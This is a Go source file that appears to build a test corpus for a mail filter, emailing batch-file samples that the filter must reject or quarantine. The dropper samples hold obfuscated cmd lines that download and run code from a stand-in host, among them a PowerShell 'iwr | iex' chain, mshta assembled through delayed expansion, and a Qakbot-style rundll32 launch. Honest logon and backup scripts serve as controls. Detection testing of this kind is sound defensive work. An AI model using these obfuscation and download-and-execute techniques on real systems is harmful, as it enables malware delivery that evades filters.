package corpus

import (
	"github.com/kensa-milter/kensa/policy"
)

// Batch files (.bat, .cmd) that download or run something, their commands
// hidden by cmd's own obfuscation, attached and zipped (batch-command).
// The stand-ins fetch from reserved names and start notepad. An honest
// logon script is in the malicious set too, because every batch file is
// quarantined by name (dangerous-script): it must get no batch-command.
func batchSamples() []Sample {
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	body := text("Hello,\n\nplease run the attached file to open the documents.\n\nRegards,\nAccounts\n")
	droppers := []struct{ key, about, name, script string }{
		{"powershell-dosfuscated", "a batch file whose PowerShell download is spelled with variables set and joined, a letter cut out of %ProgramData% and carets",
			"Invoice_4471.bat", "@echo off\r\nset x=ersh\r\nset u=ht^tps:/\r\nset w=-w h^idden\r\n%ProgramData:~3,1%o^w%x%ell %w% -nop -c \"i%ProgramData:~-1,0%wr %u%/cdn.bat-kit.example.net/i.ps1 | i%COMSPEC:~-3,1%x; notepad\"\r\nexit\r\n"},
		{"mshta-delayed", "a .cmd file that builds mshta and its web address with delayed expansion inside cmd /v:on",
			"Scan_0427.cmd", "@echo off\r\ncmd /v:on /c \"set m=ms&& set t=hta&& !m!!t! https://cdn.bat-kit.example.net/s.hta\"\r\n"},
		{"runner-behind-call", "a batch file that runs mshta on a web page from a line before the lines that name mshta: a subroutine it calls first joins the name in a for loop, and an if takes the branch that runs it",
			"Statement_2291.bat", "@echo off\r\nsetlocal\r\ncall :init\r\nif defined r (for %%p in (%r%) do %%p https://cdn.bat-kit.example.net/s.hta) else (echo Nothing to open.)\r\nexit /b\r\n:init\r\nfor %%a in (ms) do set r=%%ahta\r\ngoto :eof\r\n"},
	}
	for _, d := range droppers {
		add(Sample{Name: "bat-" + d.key, About: d.about, Action: policy.Reject, Want: []Want{w("heuristic", "batch-command", "2")}},
			mail{subject: "Documents", root: multipart("mixed", body, attach("application/octet-stream", d.name, []byte(d.script)))})
		add(Sample{Name: "bat-" + d.key + "-in-zip", About: d.about + " (in a zip)", Action: policy.Reject, Want: []Want{w("heuristic", "batch-command", "2/documents.zip/"+d.name)}},
			mail{subject: "Documents", root: multipart("mixed", body, attach("application/zip", "documents.zip", zipOf(file{d.name, []byte(d.script)})))})
	}
	add(Sample{Name: "bat-rundll32-beside-in-zip", About: "a zipped batch file that starts rundll32 on a DLL beside it (the Qakbot shape)", Action: policy.Reject,
		Want: []Want{w("heuristic", "batch-command", "2/documents.zip/open.cmd")}},
		mail{subject: "Documents", root: multipart("mixed", body, attach("application/zip", "documents.zip",
			zipOf(file{"open.cmd", []byte("@echo off\r\nst^art /min run^dll32 data\\notepad.dat,DllRegisterServer\r\n")}, file{"data/notepad.dat", []byte("stand-in, not a DLL\r\n")})))})
	add(Sample{Name: "bat-honest-logon", About: "an honest logon script (drives, printers, the intranet page, a backup with robocopy and PowerShell's Compress-Archive), quarantined as every batch file is, without batch-command",
		Action: policy.Quarantine, Want: []Want{w("heuristic", "dangerous-script", "2")}},
		mail{from: "IT Service Desk <it@corp.example.jp>", subject: "Logon script", root: multipart("mixed", text("Kenji, here is the new logon script for the branch office.\n"),
			attach("application/octet-stream", "logon.bat", []byte("@echo off\r\nrem Branch logon script, see https://intranet.corp.example.jp/it\r\n"+
				"net use Z: \\\\fileserver\\share /persistent:no\r\ncscript //nologo \\\\fileserver\\netlogon\\printers.vbs\r\n"+
				"setlocal EnableDelayedExpansion\r\nset \"dest=\\\\nas\\backup\\%USERNAME%\"\r\nrobocopy \"%USERPROFILE%\\Documents\" \"!dest!\" /MIR /R:2 /LOG:\"%TEMP%\\backup.log\"\r\n"+
				"powershell -NoProfile -Command \"Compress-Archive -Path C:\\Data -DestinationPath !dest!\\data.zip -Force\"\r\n"+
				"start \"\" \"https://intranet.corp.example.jp/\"\r\n")))})
	add(Sample{Name: "bat-honest-backup-flow", About: "an honest backup script with subroutines (call :log), a for loop over folders to robocopy, for /f reading wmic's date, if exist and errorlevel branches and goto, quarantined as every batch file is, without batch-command",
		Action: policy.Quarantine, Want: []Want{w("heuristic", "dangerous-script", "2")}},
		mail{from: "IT Service Desk <it@corp.example.jp>", subject: "Backup script", root: multipart("mixed", text("Aiko, the nightly backup script for the laptops, as discussed.\n"),
			attach("application/octet-stream", "backup.bat", []byte("@echo off\r\nsetlocal\r\ncall :log Starting backup\r\n"+
				"for %%d in (Documents Desktop Pictures) do robocopy \"%USERPROFILE%\\%%d\" \"\\\\nas\\backup\\%USERNAME%\\%%d\" /MIR /R:1 /W:1\r\n"+
				"for /f \"tokens=2 delims==\" %%v in ('wmic os get localdatetime /value') do set stamp=%%v\r\n"+
				"if exist \"%ProgramFiles%\\Backup\\notify.exe\" (\"%ProgramFiles%\\Backup\\notify.exe\" /done) else (call :log notify missing)\r\n"+
				"if errorlevel 8 goto failed\r\ncall :log Backup done %stamp%\r\nexit /b 0\r\n:failed\r\ncall :log Backup failed\r\nexit /b 1\r\n"+
				":log\r\necho %date% %time% %* >> \"%TEMP%\\backup.log\"\r\ngoto :eof\r\n")))})
	return out
}
